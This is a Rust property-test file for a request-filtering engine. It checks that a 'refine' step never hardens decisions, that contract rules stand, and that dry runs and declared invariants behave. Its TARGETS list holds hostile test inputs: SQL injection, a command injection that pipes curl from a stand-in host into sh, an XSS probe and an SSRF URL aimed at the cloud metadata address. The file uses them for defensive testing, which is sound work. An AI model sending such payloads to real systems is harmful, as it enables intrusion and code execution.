//! Law 6: what refine may soften, over any rules, requests and contexts.
#![allow(
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::string_slice,
    reason = "a failing test panics"
)]

use doorward_core::decision::{Conclusion, Decision, Mode};
use doorward_core::engine::{Engine, Step};
use doorward_core::frame::{FrameBuilder, FrameFields, flag};
use doorward_core::keys::Keyer;
use doorward_core::need::{Embedded, Facts};
use doorward_core::store::Memory;
use doorward_core::units::Millis;
use proptest::prelude::*;

/// Rules of every kind; the first four are contracts or firm by the policy below.
const RULES: [&str; 10] = [
    r#""rule":"filter","id":"f","deny":["http.request.method eq \"DELETE\""]"#,
    r#""rule":"fixedWindow","id":"user","window":"1h","max":1,"characteristics":["userId"]"#,
    r#""rule":"tokenBucket","id":"tenant","refillRate":1,"interval":"1h","capacity":1,"characteristics":["ip.src","tenant"]"#,
    r#""rule":"detectBot","id":"firm","allow":[]"#,
    r#""rule":"shield","id":"shield""#,
    r#""rule":"detectBot","id":"bots","allow":["CATEGORY:SEARCH_ENGINE"]"#,
    r#""rule":"fixedWindow","id":"address","window":"1h","max":1"#,
    r#""rule":"slidingWindow","id":"mail","interval":"1h","max":0,"characteristics":["email"]"#,
    r#""rule":"validateEmail","id":"email","deny":["INVALID"]"#,
    r#""rule":"filter","id":"unsure","deny":["context[\"plan\"] eq \"free\""],"onError":"deny""#,
];
const CONTRACTS: [&str; 4] = ["f", "user", "tenant", "firm"];

const TARGETS: [&str; 6] = [
    "/",
    "/items/7",
    "/?q=1'%20or%20'1'='1",
    "/?q=$(curl%20http://evil.example/x|sh)",
    "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?u=http://169.254.169.254/latest/meta-data/",
];

fn context() -> impl Strategy<Value = String> {
    let field = |texts: &'static [&'static str]| prop::sample::select(texts);
    (
        field(&["", r#""userId":"ana","#]),
        field(&["", r#""tenant":"t1","#]),
        field(&["", r#""email":"ana@shop.example","#, r#""email":"nobody","#]),
        field(&["", r#""plan":"pro","#]),
        field(&[
            "",
            r#""account":{"ageDays":1200,"orders":40,"emailVerified":true,"mfa":true},"#,
            r#""account":{"ageDays":-3,"orders":1e30,"chargebacks":2},"#,
        ]),
        field(&[
            "",
            r#""session":{"id":"s1","ageSeconds":90000,"stepUpAgeSeconds":60},"#,
            r#""session":{"id":"s2","ipChanged":true,"userAgentChanged":true},"#,
        ]),
        field(&["", r#""device":{"id":"d","ageDays":300},"#]),
        field(&["read", "checkout", "post_content", "admin", "else"]),
    )
        .prop_map(|(user, tenant, email, plan, account, session, device, action)| {
            format!("{{{user}{tenant}{email}{plan}{account}{session}{device}\"action\":\"{action}\"}}")
        })
}

fn decide(
    engine: &Engine,
    store: &mut Memory,
    method: &str,
    target: &str,
    agent: &str,
    context: &str,
) -> Decision {
    let fields = FrameFields {
        flags: flag::ALL_HEADERS,
        now: Some(Millis(1_795_000_000_000)),
        peer: b"203.0.113.9",
        method: method.as_bytes(),
        target: target.as_bytes(),
        context: context.as_bytes(),
        ..FrameFields::default()
    };
    let mut builder = FrameBuilder::default();
    let headers = [("User-Agent", agent), ("Accept-Language", "pl")];
    let frame = builder
        .build(
            &fields,
            headers.iter().map(|(n, v)| (n.as_bytes(), v.as_bytes())),
        )
        .expect("fits");
    let mut world = Embedded { store, lost: false };
    match engine.conclude(
        engine.judge_with(frame, Facts::NONE),
        || "id".into(),
        &mut world,
    ) {
        Step::Decided(decision) => decision,
        Step::Needs(_) => panic!("the embedded store answers inside the call"),
    }
}

fn engine(rules: &[(usize, bool)], refine: &str) -> Engine {
    let text: Vec<String> = rules
        .iter()
        .map(|(rule, live)| {
            let rule = RULES.get(*rule).expect("a rule");
            let mode = if *live { "LIVE" } else { "DRY_RUN" };
            format!("{{{rule},\"mode\":\"{mode}\"}}")
        })
        .collect();
    let policy = format!("{{\"rules\":[{}],\"refine\":{refine}}}", text.join(","));
    Engine::new(&policy, Keyer::Seed([3; 16])).unwrap_or_else(|error| panic!("{error}"))
}

fn rules() -> impl Strategy<Value = Vec<(usize, bool)>> {
    let places: Vec<usize> = (0..RULES.len()).collect();
    (
        prop::sample::subsequence(places, 1..=RULES.len()),
        any::<u16>(),
    )
        .prop_map(|(places, live)| {
            let live = |place: &usize| live >> place & 1 == 1 || *place == 3;
            places
                .into_iter()
                .map(|place| (place, live(&place)))
                .collect()
        })
}

fn certain(code: &str) -> bool {
    [
        "shield.rce.",
        "shield.ssrf.",
        "shield.xxe.",
        "shield.deserialization.",
        "shield.code.",
    ]
    .iter()
    .any(|head| code.starts_with(head))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 4096, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn law_6_contracts_stand_and_nothing_hardens(
        rules in rules(),
        times in 1_usize..4,
        contexts in prop::collection::vec(context(), 3),
        method in prop::sample::select(vec!["GET", "DELETE"]),
        target in prop::sample::select(TARGETS.to_vec()),
        agent in prop::sample::select(vec!["curl/8.5.0", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"]),
    ) {
        let firm = if rules.iter().any(|(rule, _)| *rule == 3) { "[\"firm\"]" } else { "[]" };
        let engine = engine(&rules, &format!("{{\"mode\":\"LIVE\",\"firm\":{firm}}}"));
        let mut store = Memory::new(1 << 20, 5);
        for context in contexts.iter().take(times) {
            let decision = decide(&engine, &mut store, method, target, agent, context);
            let refined = decision.refined.as_ref().expect("refined");
            prop_assert!(refined.conclusion <= decision.conclusion, "it hardened");
            let sum: i32 = refined.explanation.iter().map(|(_, weight)| weight).sum();
            prop_assert_eq!(refined.base + sum, refined.margin);
            for result in decision.results.iter().filter(|result| result.mode == Mode::Live) {
                let fell_back = result.reason.details.iter().any(|(name, _)| *name == "key_fallback");
                let stands = CONTRACTS.contains(&&*result.id) && !fell_back || result.undetermined;
                if stands {
                    prop_assert!(refined.conclusion >= result.conclusion, "{} was softened", result.id);
                }
                if certain(result.reason.code) && result.score.get() >= 9000 && result.conclusion == Conclusion::Deny {
                    prop_assert!(refined.conclusion >= Conclusion::Challenge);
                }
                if result.reason.code == "skipped" && decision.conclusion != Conclusion::Allow {
                    prop_assert!(refined.conclusion >= Conclusion::Challenge);
                }
            }
        }
    }

    #[test]
    fn law_6_a_line_reconsidered_is_softened_by_the_same_rules(
        rules in rules(),
        context in context(),
        more in context(),
        target in prop::sample::select(TARGETS.to_vec()),
    ) {
        let engine = engine(&rules, "{\"mode\":\"LIVE\"}");
        let decision = decide(&engine, &mut Memory::new(1 << 20, 5), "DELETE", target, "curl/8.5.0", &context);
        let again = engine.refine(&decision.to_json(), &more).expect("a line");
        let (letter, line) = again.split_at(1);
        let line: serde_json::Value = serde_json::from_str(line).expect("JSON");
        let refined = line["refined"]["conclusion"].as_str().expect("a conclusion");
        prop_assert!(refined.starts_with(letter));
        prop_assert_eq!(line["conclusion"].as_str(), Some(decision.conclusion.word()));
        let rank = |word: &str| ["ALLOW", "CHALLENGE", "DENY"].iter().position(|known| *known == word);
        prop_assert!(rank(refined) <= rank(decision.conclusion.word()), "it hardened");
        for result in decision.results.iter().filter(|result| result.mode == Mode::Live) {
            let fell_back = result.reason.details.iter().any(|(name, _)| *name == "key_fallback");
            if CONTRACTS.iter().take(3).any(|id| *id == &*result.id) && !fell_back || result.undetermined {
                prop_assert!(rank(refined) >= rank(result.conclusion.word()), "{} was softened", result.id);
            }
            if result.reason.code == "skipped" && decision.conclusion != Conclusion::Allow {
                prop_assert!(refined != "ALLOW");
            }
        }
        // and what it says is said the same way again
        let twice = engine.refine(&again[1..], &more);
        prop_assert_eq!(twice.as_ref(), Some(&again));
    }

    #[test]
    fn law_6_who_says_nothing_gets_what_the_rules_say(rules in rules(), target in prop::sample::select(TARGETS.to_vec())) {
        let engine = engine(&rules, "{\"mode\":\"LIVE\"}");
        let decision = decide(&engine, &mut Memory::new(1 << 20, 5), "GET", target, "curl/8.5.0", "");
        prop_assert_eq!(decision.effective(), decision.conclusion);
    }

    #[test]
    fn law_6_a_dry_run_only_says(rules in rules(), context in context(), target in prop::sample::select(TARGETS.to_vec())) {
        let (live, dry) = (engine(&rules, "{\"mode\":\"LIVE\"}"), engine(&rules, "{\"mode\":\"DRY_RUN\"}"));
        let run = |engine| decide(engine, &mut Memory::new(1 << 20, 5), "GET", target, "curl/8.5.0", &context);
        let (live, dry) = (run(&live), run(&dry));
        prop_assert_eq!(dry.effective(), dry.conclusion);
        let would = dry.refined.as_ref().and_then(|refined| refined.would).expect("says");
        // a live one lets quotas be taken that the dry run sees skipped
        if !dry.results.iter().any(|result| result.reason.code == "skipped") {
            prop_assert_eq!(would, live.effective());
        }
    }

    #[test]
    fn law_6_what_is_not_told_never_raises_the_score(rules in rules(), context in context(), target in prop::sample::select(TARGETS.to_vec())) {
        let engine = engine(&rules, "{\"mode\":\"LIVE\"}");
        let with = decide(&engine, &mut Memory::new(1 << 20, 5), "GET", target, "curl/8.5.0", &context);
        let without = decide(&engine, &mut Memory::new(1 << 20, 5), "GET", target, "curl/8.5.0", "");
        let refined = without.refined.expect("refined");
        let known = ["account.", "session.", "device.", "user.", "standing"];
        prop_assert!(refined.explanation.iter().all(|(signal, _)| !known.iter().any(|head| signal.starts_with(head))));
        drop(with);
    }

    #[test]
    fn declared_invariants_hold(rules in rules(), context in context(), target in prop::sample::select(TARGETS.to_vec())) {
        let engine = engine(&rules, r#"{"mode":"LIVE","harden":true,"invariants":[
            {"when":"context[\"account.orders\"] ge 1","atMost":"challenge"},
            {"when":"context[\"action\"] eq \"admin\"","atLeast":"challenge"}]}"#);
        let decision = decide(&engine, &mut Memory::new(1 << 20, 5), "GET", target, "curl/8.5.0", &context);
        if context.contains("\"admin\"") {
            prop_assert!(decision.effective() >= Conclusion::Challenge);
        }
        let stands = decision.results.iter().any(|result| {
            result.mode == Mode::Live
                && result.conclusion == Conclusion::Deny
                && (CONTRACTS.contains(&&*result.id)
                    || result.undetermined
                    || result.reason.code == "rate_limit.too_large")
        });
        if context.contains("\"orders\"") && !stands {
            prop_assert!(decision.effective() <= Conclusion::Challenge);
        }
    }
}
